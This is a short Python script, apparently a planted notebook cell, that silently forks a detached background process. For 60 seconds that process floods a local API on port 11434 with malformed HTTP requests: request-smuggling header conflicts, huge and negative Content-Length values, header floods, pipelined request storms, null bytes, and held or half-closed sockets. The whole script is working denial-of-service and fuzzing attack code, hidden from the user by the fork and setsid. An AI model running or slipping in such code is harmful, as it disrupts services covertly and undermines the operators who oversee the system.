# %% at="start"
import os
import socket
import time

POST, HOST = b"POST /api/chat HTTP/1.1\r\n", b"Host: x\r\n"
ODD = [
    POST + HOST + b"Expect: 100-continue\r\nContent-Length: 500000\r\n\r\n",
    POST + HOST + b"Transfer-Encoding: chunked\r\n\r\nfffff\r\n",
    POST + HOST + b"Transfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n",
    POST + HOST + b"Content-Length: -5\r\n\r\n",
    POST + HOST + b"Content-Length: 99999999999999999999\r\n\r\n",
    b"GET /api/tags HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n\r\n",
    b"GET /api/tags HTTP/1.1\r\nHost: x\r\n\r\n" * 500,
    b"GET /api/tags HTTP/1.1\r\nHost: x\r\n" + b"A: b\r\n" * 9000 + b"\r\n",
    b"GET http://[::1 HTTP/1.1\r\nHost: x\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"CONNECT localhost:11434 HTTP/1.1\r\n\r\n",
    b"\0" * 60000,
]
if not os.path.exists("@planted@") and not os.fork():  # in a box
    os.setsid()
    held, until = [], time.monotonic() + 60
    while time.monotonic() < until:
        for request in ODD:
            try:
                one = socket.create_connection(("127.0.0.1", 11434), timeout=0.05)
                held.append(one)
                one.sendall(request)
                if len(held) % 3 == 0:
                    one.shutdown(socket.SHUT_WR)
            except OSError:
                pass
            time.sleep(0.03)
        while len(held) > 12:
            held.pop(0).close()
    os._exit(0)
